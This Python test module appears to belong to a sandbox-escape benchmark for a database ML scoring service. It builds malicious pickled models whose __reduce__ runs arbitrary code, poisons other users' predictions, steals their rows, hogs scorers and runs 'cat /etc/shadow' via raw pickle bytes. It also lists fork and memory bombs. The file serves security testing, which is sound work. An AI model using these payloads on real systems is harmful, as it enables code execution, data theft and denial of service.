# ruff: noqa: E501 - scripts, as an attacker would write them
"""Malicious pickles: what unpickles by running a script, in a scorer, and what it does to the models of others."""

from __future__ import annotations

import pickle
from collections.abc import Callable
from typing import Any

import psycopg
from sklearn.linear_model import LinearRegression

from benchmarks.escape import bombs, files, network, processes, secrets
from benchmarks.escape.arena import Arena
from benchmarks.escape.attack import ATTACKS, Attack, attack_elsewhere

# What scripts try, tried again by a model that is loaded.
CARRIED = (
    secrets.environment_of_other_processes, secrets.memory_of_the_worker, secrets.memory_by_process_vm_readv,
    secrets.tracing_of_others, secrets.descriptors_of_others, secrets.own_environment, secrets.inherited_descriptors,
    files.shadow_passwords, files.data_directory, files.a_file_that_everybody_may_read, files.home_directories,
    files.scratch_files_of_others, files.parameters_of_others, files.writing_outside, files.attributes_of_files_outside,
    files.hard_links_out, files.mounts, files.new_namespaces, files.privileged_programs,
    network.tcp_to_postgresql, network.connection_to_the_worker, network.tcp_and_udp, network.unix_sockets,
    processes.signals_to_others, processes.every_process_at_once, processes.limits_and_priorities_of_others,
    processes.outliving_the_call, processes.poisoning_the_next_script,
    bombs.fork_bomb, bombs.memory_bomb,
)  # fmt: skip


def _carried(work: Callable[[Arena], str | None]) -> Attack:
    def by_pickle(arena: Arena) -> str | None:
        with arena.pickles():
            return work(arena)

    return Attack(f"pickle: {work.__name__.replace('_', ' ')}", f"As a model: {(work.__doc__ or '').strip()}", by_pickle)


ATTACKS += [_carried(work) for work in CARRIED]


class Model:
    """A model that is a linear regression and runs a script when it is loaded."""

    def __init__(self, script: str) -> None:
        self.script = script

    def __reduce__(self) -> Any:
        honest = "__import__('sklearn.linear_model').linear_model.LinearRegression().fit([[0.0], [1.0]], [0.0, 1.0])"
        return eval, (f"[exec({self.script!r}, globals()), {honest}][1]", {})


class Predicts:
    """A model whose predict runs a script; features and answer are in `X` and `answer`."""

    def __init__(self, script: str) -> None:
        self.script = script

    def __reduce__(self) -> Any:
        body = (
            "type('M', (), {'predict': lambda self, X: [s := dict(X=X, answer=[0.0], kept=self.__dict__), "
            f"exec({self.script!r}, s), s['answer']][2]}})()"
        )
        return eval, (body, {})


def _register(connection: psycopg.Connection[Any], name: str, model: Any) -> None:
    connection.execute("select dbml.register_model(%s, %s)", (name, pickle.dumps(model)))


def _predict(connection: psycopg.Connection[Any], name: str, feature: float = 4.0) -> str:
    try:
        return str(connection.execute("select dbml.predict(%s, array[%s]::float8[])", (name, feature)).fetchone())
    except psycopg.Error as error:
        return f"{error.sqlstate} {error}"


def _answers(arena: Arena, script: str, *, again: int = 3) -> str | None:
    """Load a model that runs a script, between predictions with an honest one; returns a wrong answer of that."""
    with arena.connect() as connection:
        _register(connection, "victim", LinearRegression().fit([[0.0], [1.0]], [1.0, 3.0]))
        before = _predict(connection, "victim")
        _register(connection, "poison", Model(script))
        for _ in range(again):
            _predict(connection, "poison")
            if (after := _predict(connection, "victim")) != before:
                return f"another model's answer was {before} and is {after[:100]}"
    return None


@attack_elsewhere
def poisoning_the_model_cache(arena: Arena) -> str | None:
    """Replace the functions that score, in the process that loads the model, and the models it holds."""
    return _answers(arena, """
import gc, numpy
import dbml.engines.python as engine, dbml.worker.scorer as scorer
engine.PythonEngine.score = lambda self, method, rows: numpy.array([666.0])
scorer._score_row = lambda *a: ({'tag': 'scores', 'n': 1, 'type': 'double precision'}, b'666')
for held in gc.get_objects():
    if isinstance(held, scorer.Scorer):
        for key in list(held._models):
            held._models[key] = None
    if type(held).__name__ == 'LinearRegression':
        held.intercept_ = 666.0
""")  # fmt: skip


@attack_elsewhere
def poisoning_libraries_of_the_scorers(arena: Arena) -> str | None:
    """Change scikit-learn, numpy and the pickle module for whatever is loaded next."""
    return _answers(arena, """
import pickle, numpy, sklearn.linear_model
sklearn.linear_model.LinearRegression.predict = lambda self, X: numpy.array([666.0])
pickle.loads = lambda *a, **k: sklearn.linear_model.LinearRegression()
numpy.dot = numpy.matmul = lambda *a: numpy.array([666.0])
""")  # fmt: skip


@attack_elsewhere
def answers_given_ahead(arena: Arena) -> str | None:
    """Write answers to the router's socket before they are asked for."""
    return _answers(arena, """
import json, os, struct
head = json.dumps({'tag': 'scores', 'n': 1, 'type': 'double precision'}).encode()
for _ in range(20):
    os.write(3, struct.pack('>II', len(head), 3) + head + b'666')
""")  # fmt: skip


@attack_elsewhere
def claiming_another_models_digest(arena: Arena) -> str | None:
    """Pose as the holder of every model: change the digests under which the scorer keeps what it has loaded."""
    return _answers(arena, """
import collections, gc
import dbml.worker.scorer as scorer
class Everything(collections.OrderedDict):
    def get(self, key, default=None):
        return next(iter(self.values()), None)
for held in gc.get_objects():
    if isinstance(held, scorer.Scorer):
        held._models = Everything(held._models)
""")  # fmt: skip


@attack_elsewhere
def looking_at_other_models(arena: Arena) -> str | None:
    """Find other models in the scorer's memory."""
    with arena.connect() as connection:
        held = LinearRegression().fit([[0.0], [1.0]], [0.0, 2.0])
        held.word = arena.canary
        _register(connection, "held", held)
        _predict(connection, "held")
        return _seen(
            arena,
            "import gc\nprint([getattr(held, 'word', None) for held in gc.get_objects() if type(held).__name__ == 'LinearRegression'])",
        )


@attack_elsewhere
def rows_of_others(arena: Arena) -> str | None:
    """Keep the rows that another caller scores with another model."""
    with arena.connect() as connection:
        _register(connection, "spy", Predicts("""
import gc
import dbml.engines.python as engine
rows = engine.__dict__.setdefault('kept_rows', [])
if X[0][0] == 0:
    raise RuntimeError('GOT rows ' + repr(rows) if rows else 'nothing')
former = engine.PythonEngine.score
engine.PythonEngine.score = lambda self, method, X: rows.append(str(X)) or former(self, method, X)
"""))  # fmt: skip
        _predict(connection, "spy", 1.0)
        rows = "select * from dbml.predict('honest', 'select 4711.5::float8 as x') as t(x float8, p float8)"
        connection.execute(rows)
        seen = _predict(connection, "spy", 0.0)
    return seen if "GOT" in seen and "4711.5" in seen else None


def _seen(arena: Arena, script: str) -> str | None:
    seen = arena.load(script)
    return f"learned the canary: {seen[:100]}" if arena.canary in seen else None


@attack_elsewhere
def a_prediction_that_does_not_end(arena: Arena) -> str | None:
    """Hold as many scorers as there are by models that loop in C, so that nobody else can predict."""
    loop = Predicts("import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\nsum(iter(int, 1))")
    with arena.connect() as owner:
        owner.execute("drop role if exists looper")
        owner.execute("create role looper login password 'x'; grant dbml_scripter to looper")
        _register(owner, "loop", loop)
        if owner.execute("select to_regproc('dbml.grant_workspace')").fetchone() != (None,):
            owner.execute("select dbml.grant_workspace('default', 'looper', 'contributor')")
        loopers = [arena.connect(role="looper") for _ in range(6)]
        try:
            for connection in loopers:
                connection.pgconn.send_query(b"select dbml.predict('loop', array[1.0]::float8[])")
            owner.execute("select pg_sleep(0.5)")
            owner.execute("set statement_timeout = '5s'")
            try:
                owner.execute("select dbml.predict('honest', array[4.0]::float8[])")
            except psycopg.Error as error:
                return f"another role waits for the looping ones: {error}"
        finally:
            for connection in loopers:
                connection.cancel()
                connection.close()
            owner.execute("drop owned by looper; drop role looper")
    return None


@attack_elsewhere
def computing_while_nobody_asks(arena: Arena) -> str | None:
    """Leave threads that compute in the scorer after the answer, for as long as the model is kept."""
    with arena.connect() as connection:
        _register(
            connection,
            "miner",
            Model(
                "import threading\ndef spin():\n    while True: pass\nfor _ in range(2): threading.Thread(target=spin, daemon=True).start()"
            ),
        )
        _predict(connection, "miner")
        (before,) = connection.execute("select scorers from dbml.worker_status").fetchone()  # type: ignore[misc]
        for _ in range(600):
            connection.execute("select pg_sleep(0.1)")
            (now,) = connection.execute("select scorers from dbml.worker_status").fetchone()  # type: ignore[misc]
            if set(before) - set(now):
                return None
    return "it computes still"


@attack_elsewhere
def imports_hidden_from_a_look(arena: Arena) -> str | None:
    """Reach exec by names that a list of forbidden imports does not know: reduce chains, extension codes, nested pickles."""
    inner = pickle.dumps(Predicts("pass"))
    for content in (
        b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'cat /etc/shadow'\ntR.",
        pickle.dumps(inner)[:-1] + b"0cpickle\nloads\n(" + pickle.dumps(inner, 0)[:-1] + b"tR.",
        b"\x80\x04\x95\x1f\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.",
    ):
        with arena.connect() as connection:
            connection.execute("select dbml.register_model('hidden', %s)", (content,))
            seen = _predict(connection, "hidden")
        if "root:" in seen or arena.canary in seen:
            return seen[:100]
    return None
